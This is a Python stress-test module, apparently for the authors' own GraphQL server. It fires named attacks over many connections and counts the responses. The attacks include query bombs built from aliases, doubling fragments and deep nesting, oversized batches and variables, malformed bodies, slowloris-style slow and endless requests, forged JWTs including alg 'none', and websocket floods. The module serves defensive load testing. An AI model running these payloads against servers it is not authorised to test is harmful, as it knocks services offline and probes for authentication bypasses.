"""Attacks on a server of ours: `python -m bench.loads.attacking NAME ADDRESS SECONDS`.

Each is a table row: what is sent, again and again, over some connections at once. It ends by itself
and prints what came back, by status; `hung up` where the server closed without an answer.
"""

import asyncio
import json
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine, Mapping
from contextlib import suppress
from typing import Any, Final
from urllib.parse import urlsplit

import jwt
import websockets

PROTOCOL = websockets.Subprotocol("graphql-transport-ws")
LINES = 16
READ = 1 << 16  # bytes
PAUSE_SECONDS = 0.05  # of whoever is slow on purpose
ANSWER_SECONDS_MAX = 45
JSON_TYPE = "content-type: application/json\r\n"
HEAD = "POST {path} HTTP/1.1\r\nhost: {host}\r\n" + JSON_TYPE
WHO = "{ __typename }"

Attack = Callable[[str, float, "Counter[str]"], Coroutine[Any, Any, None]]


def body(query: str, **fields: object) -> bytes:
    """A body that asks something; in a document that nobody has sent before."""
    return json.dumps({"query": f"{query} # FRESH", **fields}).encode()


def fragments(levels: int) -> str:
    """Each spreads the next one twice."""
    doubling = [f"fragment A{i} on Query {{ ...A{i + 1} ...A{i + 1} }}" for i in range(levels)]
    return " ".join(["{ ...A0 }", *doubling, f"fragment A{levels} on Query {{ __typename }}"])


def nested(times: int, opening: str, leaf: str, closing: str) -> str:
    """One thing inside of another."""
    return opening * times + leaf + closing * times


PAGES = "products(first: 100) { nodes { variants { inventoryLevels { id } } } }"
ROUND = "orders(first: 2) { nodes { customer { "
LONG = "x" * 200_000
BODIES: Final[Mapping[str, bytes]] = {
    "aliases": body("{ " + " ".join(f"a{i}: __typename" for i in range(2_000)) + " }"),
    "aliases of pages": body("{ " + " ".join(f"a{i}: {PAGES}" for i in range(18)) + " }"),
    "batch": json.dumps([{"query": WHO}] * 5_000).encode(),
    "directives": body("{ __typename " + "@skip(if: false) " * 900 + "}"),
    "fragments": body(fragments(45)),
    "a fragment in itself": body("{ ...A } fragment A on Query { ...A }"),
    "circular introspection": body(
        "{ __schema { types { " + nested(6, "fields { type { ", "name", "} } ") + " } } }"
    ),
    "deep recursion": body("{ me { " + nested(200, ROUND, "id", "} } } ") + " } }"),
    "costly pages": body("{ " + " ".join(f"a{i}: {PAGES}" for i in range(9)) + " }"),
    "a page of a million": body("{ products(first: 1000000) { nodes { id } } }"),
    "a list of ids": body(
        "query($i: [ID!]!) { nodes(ids: $i) { id } }", variables={"i": ["x"] * 40_000}
    ),
    "huge variables": body(
        "query($s: String) { products(first: 1, search: $s) { nodes { id } } }",
        variables={"s": LONG},
    ),
    "deep JSON": body(WHO)[:-1] + b', "variables": {"a":' + b"[" * 50_000 + b"]" * 50_000 + b"}}",
    "invalid UTF-8": b'{"query": "{ \xff\xfe }"}',
    "NUL": body('{ products(first: 1, search: "\x00") { nodes { id } } }', variables={"a": "\x00"}),
    "many tokens": body("{ " + "a " * 100_000 + "}"),
    "many operations": body(
        " ".join(f"query Q{i} {{ __typename }}" for i in range(600)), operationName="Q1"
    ),
    "fresh documents": body("{ viewer { kind } }"),
    "an endless body": b" " * 1_000_000,
    "errors without end": body("{ " + " ".join(f"nobodyKnows{i}" for i in range(1_000)) + " }"),
    "operations by the thousand": json.dumps({"query": WHO}).encode(),
}


def forged() -> list[bytes]:
    """Tokens that are none."""
    now = int(time.time())
    claims = {
        "iss": "tradegraph",
        "aud": "tradegraph",
        "sub": "x",
        "iat": now,
        "nbf": now,
        "exp": now + 600,
    }
    wrong = jwt.encode(claims, "another secret, just as long as ours is", algorithm="HS256")
    unsigned = jwt.encode(claims, "", algorithm="none")
    return [each.encode() for each in (wrong, unsigned, "x.y.z", wrong[:-2], "a" * 5_000)]


def post(place: Any, content: bytes, *headers: bytes) -> bytes:
    """A whole request."""
    first = HEAD.format(path=place.path, host=place.netloc)
    head = f"{first}content-length: {len(content)}\r\n"
    return head.encode() + b"".join(header + b"\r\n" for header in headers) + b"\r\n" + content


async def requests(
    address: str, deadline: float, seen: "Counter[str]", make: Callable[[int], bytes]
) -> None:
    """Send, read the answer, send again; a new connection where the server hung up."""
    place, number = urlsplit(address), 0
    while time.monotonic() < deadline:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(place.hostname, place.port)
            try:
                while time.monotonic() < deadline:
                    writer.write(make(number))
                    number += 1
                    status = await asyncio.wait_for(answer(reader), ANSWER_SECONDS_MAX)
                    seen[status] += 1
                    if status == "hung up":
                        break
            finally:
                writer.transport.abort()


async def answer(reader: asyncio.StreamReader) -> str:
    """The status of an answer, which is read to its end."""
    try:
        head = await reader.readuntil(b"\r\n\r\n")
        length = int(head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0])
        await reader.readexactly(length)
    except (asyncio.IncompleteReadError, ConnectionError, ValueError):
        return "hung up"
    return head.split(b" ", 2)[1].decode()


async def drops(
    address: str, deadline: float, seen: "Counter[str]", first: str, drop: bytes
) -> None:
    """Open a request and never finish it."""
    place = urlsplit(address)
    while time.monotonic() < deadline:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(place.hostname, place.port)
            writer.write(first.format(path=place.path, host=place.netloc).encode())
            heard = asyncio.create_task(answer(reader))
            while time.monotonic() < deadline and not heard.done():
                with suppress(ConnectionError):
                    writer.write(drop)
                await asyncio.wait([heard], timeout=PAUSE_SECONDS)
            seen[heard.result() if heard.done() else "still waiting"] += 1
            heard.cancel()
            writer.transport.abort()


async def messages(
    address: str, deadline: float, seen: "Counter[str]", message: dict[str, Any]
) -> None:
    """Send one message on a socket, again and again."""
    while time.monotonic() < deadline:
        with suppress(OSError, websockets.WebSocketException):
            where = address.replace("http", "ws", 1)
            async with websockets.connect(where, subprotocols=[PROTOCOL], proxy=None) as socket:
                await socket.send(json.dumps({"type": "connection_init"}))
                number = 0
                while time.monotonic() < deadline:
                    number += 1
                    await socket.send(json.dumps({"id": str(number), **message}))
                    with suppress(TimeoutError):
                        await asyncio.wait_for(socket.recv(), 0.001)
                        seen["answered"] += 1
        seen["sockets"] += 1


def of_bodies(name: str) -> Attack:
    """The same body again and again."""

    async def attack(address: str, deadline: float, seen: "Counter[str]") -> None:
        place = urlsplit(address)

        def make(number: int) -> bytes:
            fresh = f"# {number} {id(seen)} {time.monotonic()}".encode()
            return post(place, BODIES[name].replace(b"# FRESH", fresh))

        await requests(address, deadline, seen, make)

    return attack


def of_tokens() -> Attack:
    """Tokens that are none, one after the other."""
    tokens = forged()

    async def attack(address: str, deadline: float, seen: "Counter[str]") -> None:
        place = urlsplit(address)
        await requests(
            address,
            deadline,
            seen,
            lambda i: post(place, body(WHO), b"authorization: Bearer " + tokens[i % len(tokens)]),
        )

    return attack


def of_drops(first: str, drop: bytes) -> Attack:
    """A request that is never finished."""
    return lambda address, deadline, seen: drops(address, deadline, seen, first, drop)


def of_messages(message: dict[str, Any]) -> Attack:
    """A message again and again."""
    return lambda address, deadline, seen: messages(address, deadline, seen, message)


SUBSCRIBE = {"type": "subscribe", "payload": {"query": "subscription { orderFeed { kind } }"}}
ATTACKS: Final[Mapping[str, Attack]] = {
    **{name: of_bodies(name) for name in BODIES},
    "forged tokens": of_tokens(),
    "slow headers": of_drops(HEAD, b"x-slow: 1\r\n"),
    "slow bodies": of_drops(HEAD + "content-length: 100000\r\n\r\n", b" "),
    "endless chunks": of_drops(
        HEAD + "transfer-encoding: chunked\r\n\r\n", b"ffff\r\n" + b" " * 0xFFFF + b"\r\n"
    ),
    "endless headers": of_drops(HEAD, b"x-long: " + b"x" * 8_000 + b"\r\n"),
    "pings on sockets": of_messages({"type": "ping"}),
    "operations on sockets": of_messages({"type": "subscribe", "payload": {"query": WHO}}),
    "subscriptions on sockets": of_messages(SUBSCRIBE),
    "nonsense on sockets": of_messages({"type": "nonsense", "payload": LONG[:10_000]}),
}


async def attack(name: str, address: str, seconds: float) -> "Counter[str]":
    """Attack over several connections at once, for so long; what came back."""
    seen: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    await asyncio.gather(*(ATTACKS[name](address, deadline, seen) for _ in range(LINES)))
    return seen


if __name__ == "__main__":
    print(json.dumps(asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))))
